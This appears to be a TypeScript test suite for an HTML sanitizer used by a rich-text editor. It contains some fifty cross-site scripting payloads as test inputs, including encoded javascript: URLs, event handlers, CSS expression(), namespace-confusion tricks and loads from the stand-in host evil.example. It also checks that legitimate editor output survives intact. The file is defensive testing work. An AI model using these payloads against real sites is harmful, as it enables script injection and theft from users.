import { sanitizeForRender, sanitizeRichHtml } from './sanitize-html';

/** Each vector: the input and what must be gone from the output (case-insensitive); `keeps` is text that must stay. */
interface Vector {
  name: string;
  html: string;
  gone: RegExp[];
  keeps?: string;
}

const vectors: Vector[] = [
  { name: 'script tag', html: '<p>a</p><script>alert(1)</script>', gone: [/<script/i, /alert/i], keeps: '<p>a</p>' },
  {
    name: 'upper-case script tag',
    html: '<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>b</p>',
    gone: [/script/i, /evil/i],
    keeps: '<p>b</p>',
  },
  {
    name: 'img onerror',
    html: '<img src="/uploads/sliders/1-a.png" onerror="alert(1)">',
    gone: [/onerror/i, /alert/i],
    keeps: '<img src="/uploads/sliders/1-a.png">',
  },
  {
    name: 'img without quotes and onerror',
    html: '<img src=x onerror=alert(1)//>',
    gone: [/onerror/i, /alert/i, /<img/i],
  },
  {
    name: 'svg onload',
    html: '<svg onload="alert(1)"><circle r="5"/></svg><p>c</p>',
    gone: [/<svg/i, /onload/i, /alert/i, /circle/i],
    keeps: '<p>c</p>',
  },
  { name: 'javascript: href', html: '<a href="javascript:alert(1)">x</a>', gone: [/javascript/i, /href/i], keeps: 'x' },
  {
    name: 'javascript: href in mixed case',
    html: '<a href="JaVaScRiPt:alert(1)">x</a>',
    gone: [/javascript/i, /alert/i],
  },
  {
    name: 'javascript: with decimal entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    gone: [/javascript/i, /&#106;/, /alert/i],
  },
  {
    name: 'javascript: with hex entities without semicolons',
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    gone: [/javascript/i, /&#x6a/i, /alert/i],
  },
  { name: 'javascript: with a tab inside', html: '<a href="jav\tascript:alert(1)">x</a>', gone: [/script/i, /alert/i] },
  {
    name: 'javascript: with an encoded newline',
    html: '<a href="java&#10;script:alert(1)">x</a>',
    gone: [/script/i, /alert/i],
  },
  {
    name: 'javascript: after leading spaces and control characters',
    html: '<a href=" &#1; javascript:alert(1)">x</a>',
    gone: [/javascript/i, /alert/i],
  },
  {
    name: 'javascript: behind &colon;',
    html: '<a href="javascript&colon;alert(1)">x</a>',
    gone: [/javascript/i, /alert/i],
  },
  {
    name: 'data: URL in a link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    gone: [/data:/i, /base64/i],
  },
  {
    name: 'data: URL in an image',
    html: '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    gone: [/data:/i, /<img/i, /onload/i],
  },
  { name: 'vbscript: URL', html: '<a href="vbscript:msgbox(1)">x</a>', gone: [/vbscript/i, /msgbox/i] },
  {
    name: 'protocol-relative image from another host',
    html: '<img src="//evil.example/a.png">',
    gone: [/evil/i, /<img/i],
  },
  {
    name: 'style with url(javascript:)',
    html: '<span style="background:url(javascript:alert(1))">x</span>',
    gone: [/url\(/i, /javascript/i, /style=/i],
    keeps: 'x',
  },
  {
    name: 'style with expression()',
    html: '<p style="width: expression(alert(1))">x</p>',
    gone: [/expression/i, /alert/i],
    keeps: '<p>x</p>',
  },
  {
    name: 'colour value hiding expression()',
    html: '<span style="color: red; color: expression(alert(1))">x</span>',
    gone: [/expression/i, /alert/i],
  },
  {
    name: 'style with CSS escapes',
    html: '<span style="font-family: \\61 rial; background-color: u\\rl(x)">x</span>',
    gone: [/\\/, /style=/i],
  },
  {
    name: 'position:fixed overlay',
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
    gone: [/position/i, /z-index/i, /style=/i],
    keeps: '<div>x</div>',
  },
  {
    name: 'iframe',
    html: '<iframe src="https://evil.example"></iframe><p>d</p>',
    gone: [/iframe/i, /evil/i],
    keeps: '<p>d</p>',
  },
  {
    name: 'iframe srcdoc',
    html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    gone: [/srcdoc/i, /script/i, /alert/i],
  },
  { name: 'object', html: '<object data="https://evil.example/x.swf"></object>', gone: [/object/i, /evil/i] },
  { name: 'embed', html: '<embed src="https://evil.example/x.swf">', gone: [/embed/i, /evil/i] },
  {
    name: 'form with action',
    html: '<form action="https://evil.example"><p>e</p></form>',
    gone: [/form/i, /evil/i],
    keeps: '<p>e</p>',
  },
  {
    name: 'button formaction',
    html: '<button formaction="javascript:alert(1)">go</button>',
    gone: [/button/i, /formaction/i, /javascript/i],
    keeps: 'go',
  },
  {
    name: 'meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    gone: [/meta/i, /refresh/i, /evil/i],
  },
  {
    name: 'base href',
    html: '<base href="https://evil.example/"><a href="/x">x</a>',
    gone: [/<base/i, /evil/i],
    keeps: '<a href="/x">x</a>',
  },
  {
    name: 'link stylesheet',
    html: '<link rel="stylesheet" href="https://evil.example/x.css">',
    gone: [/<link/i, /evil/i],
  },
  {
    name: 'style element',
    html: '<style>body{background:url(javascript:alert(1))}</style><p>f</p>',
    gone: [/style/i, /javascript/i],
    keeps: '<p>f</p>',
  },
  {
    name: 'svg xlink:href',
    html: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    gone: [/xlink/i, /javascript/i, /svg/i],
  },
  {
    name: 'math namespace confusion',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    gone: [/onerror/i, /alert/i, /<math/i, /<img/i],
  },
  {
    name: 'svg and style namespace confusion',
    html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    gone: [/onerror/i, /alert/i, /<svg/i],
  },
  { name: 'nested script split', html: '<scr<script>ipt>alert(1)</scr</script>ipt>', gone: [/<script/i] },
  { name: 'malformed unclosed tag', html: '<p>g<img src="/uploads/a.png" onerror="alert(1)"', gone: [/onerror/i] },
  {
    name: 'HTML comment hiding markup',
    html: '<!--<img src=x onerror=alert(1)>--><p>h</p>',
    gone: [/<!--/, /onerror/i],
    keeps: '<p>h</p>',
  },
  {
    name: 'conditional comment',
    html: '<!--[if IE]><script>alert(1)</script><![endif]--><p>i</p>',
    gone: [/script/i, /\[if/i],
    keeps: '<p>i</p>',
  },
  {
    name: 'attribute breaking out of its quotes',
    html: '<a href="/x" title="a" onmouseover="alert(1)">x</a><span style=\'color:red" onclick="alert(1)\'>y</span>',
    gone: [/onmouseover/i, /onclick="/i],
  },
  {
    name: 'quote inside an allowed attribute value',
    html: '<img src="/uploads/a.png" alt="x&quot; onerror=&quot;alert(1)">',
    gone: [/" onerror="/i],
  },
  { name: 'unicode escapes in a URL', html: '<a href="\\u006aavascript:alert(1)">x</a>', gone: [/u006a/i, /alert/i] },
  {
    name: 'full-width characters in a scheme',
    html: '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>',
    gone: [/alert/i, /href/i],
  },
  {
    name: 'event handler on an allowed tag',
    html: '<p onclick="alert(1)" onmouseenter="alert(2)">j</p>',
    gone: [/onclick/i, /onmouseenter/i],
    keeps: '<p>j</p>',
  },
  {
    name: 'id and class used for clobbering',
    html: '<p id="__proto__" class="admin-only" name="x">k</p>',
    gone: [/id=/i, /class=/i, /name=/i],
    keeps: '<p>k</p>',
  },
  {
    name: 'link target other than _blank',
    html: '<a href="/x" target="evilframe">x</a>',
    gone: [/evilframe/i],
    keeps: '<a href="/x">x</a>',
  },
  {
    name: 'new tab without noopener',
    html: '<a href="https://example.com" target="_blank">x</a>',
    gone: [/rel=""/],
    keeps: 'rel="noopener noreferrer"',
  },
  {
    name: 'non-checkbox input',
    html: '<input type="image" src="x" onerror="alert(1)"><input type="text" value="x">',
    gone: [/<input/i, /onerror/i],
  },
  {
    name: 'textarea and select contents',
    html: '<textarea><img src=x onerror=alert(1)></textarea><select><option>o</option></select>',
    gone: [/textarea/i, /onerror/i, /option/i],
  },
  {
    name: 'template content',
    html: '<template><img src=x onerror=alert(1)></template><p>l</p>',
    gone: [/template/i, /onerror/i],
    keeps: '<p>l</p>',
  },
  {
    name: 'font outside the six, and a size outside the list',
    html: '<span style="font-family: Comic Sans MS; font-size: 300px">m</span>',
    gone: [/comic/i, /300px/],
  },
];

describe('sanitizeRichHtml removes dangerous markup', () => {
  it('has at least 30 vectors', () => {
    expect(vectors.length).toBeGreaterThanOrEqual(30);
  });

  it.each(vectors)('drops the dangerous part of: $name', ({ html, gone, keeps }) => {
    const clean = sanitizeRichHtml(html);
    for (const pattern of gone) expect(clean).not.toMatch(pattern);
    if (keeps !== undefined) expect(clean).toContain(keeps);
  });
});

describe('sanitizeRichHtml keeps what the editor writes', () => {
  // Every toolbar feature of spec 2.9, written exactly as tiptap 3's getHTML() writes it.
  const everyFeature = [
    '<h1 style="text-align: center">Başlık</h1>',
    '<h2>İkinci</h2>',
    '<h3 style="text-align: right">Üçüncü</h3>',
    '<p style="text-align: justify">Yaslı <strong>kalın</strong> <em>italik</em> <u>altı çizili</u> <s>üstü çizili</s> <code>kod</code></p>',
    '<p style="text-align: left">sola</p>',
    '<blockquote><p>alıntı</p></blockquote>',
    '<pre><code>const a = 1 &lt; 2 &amp;&amp; b &gt; 3;</code></pre>',
    '<pre><code class="language-js">x()</code></pre>',
    '<ul><li><p>madde</p></li></ul>',
    '<ol><li><p>bir</p></li></ol>',
    '<ol start="3"><li><p>üç</p></li></ol>',
    '<ul data-type="taskList"><li data-checked="true" data-type="taskItem"><label><input type="checkbox" checked="checked"><span></span></label><div><p>x</p></div></li>',
    '<li data-checked="false" data-type="taskItem"><label><input type="checkbox"><span></span></label><div><p>y</p></div></li></ul>',
    '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/a?b=1&amp;c=2">dış</a> <a href="/sayfa/sss">iç</a> <a href="mailto:info@example.com">posta</a></p>',
    '<img src="https://example.com/a.png" alt="A" title="T"><img src="/uploads/sliders/1-a.png" alt="">',
    '<hr>',
    '<p>satır<br>sonu</p>',
    '<p><span style="color: #ff0000; font-family: Georgia; font-size: 18px">renkli</span></p>',
    '<p><span style="background-color: rgb(0, 255, 0); font-family: Courier New">arka</span></p>',
    '<p><span style="font-family: Times New Roman; font-size: 8px">küçük</span><span style="font-family: Tahoma; font-size: 32px">büyük</span></p>',
    '<p><span style="font-family: Arial; font-size: 10px">a</span><span style="font-family: Verdana; font-size: 24px">v</span></p>',
    '<p><mark data-color="#FFFF00" style="background-color: #FFFF00; color: inherit">vurgu</mark></p>',
    '<p></p>',
  ].join('');

  it('round-trips a document using every toolbar feature unchanged', () => {
    expect(sanitizeRichHtml(everyFeature)).toBe(everyFeature);
  });

  it('is idempotent, so sanitizing on save and again on read changes nothing', () => {
    const once = sanitizeRichHtml('<p style="text-align: center; position: fixed">a<script>x</script></p><hr/>');
    expect(once).toBe('<p style="text-align: center">a</p><hr>');
    expect(sanitizeRichHtml(once)).toBe(once);
  });

  it('keeps quoted font names the browser writes after re-parsing', () => {
    expect(sanitizeRichHtml('<span style="font-family: &quot;Courier New&quot;;">x</span>')).toBe(
      '<span style="font-family: &quot;Courier New&quot;">x</span>',
    );
  });

  it('keeps the text of tags outside the toolbar and drops the tags', () => {
    expect(sanitizeRichHtml('<h4>dört</h4><table><tr><td>hücre</td></tr></table>')).toBe('dörthücre');
  });

  it('answers the same from the render cache as from the sanitizer', () => {
    const html = '<p onclick="x()">cache</p>';
    expect(sanitizeForRender(html)).toBe('<p>cache</p>');
    expect(sanitizeForRender(html)).toBe('<p>cache</p>');
  });
});
